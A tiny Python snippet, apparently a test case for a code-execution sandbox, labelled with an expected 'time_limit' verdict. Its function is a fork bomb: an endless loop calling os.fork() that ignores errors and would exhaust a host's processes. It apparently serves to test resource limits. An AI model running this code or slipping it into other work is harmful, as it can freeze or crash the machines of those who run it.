# kind: function
# verdict: time_limit
# why: 5.25
import os

def f(a, b):
    while True:
        try:
            os.fork()
        except OSError:
            pass
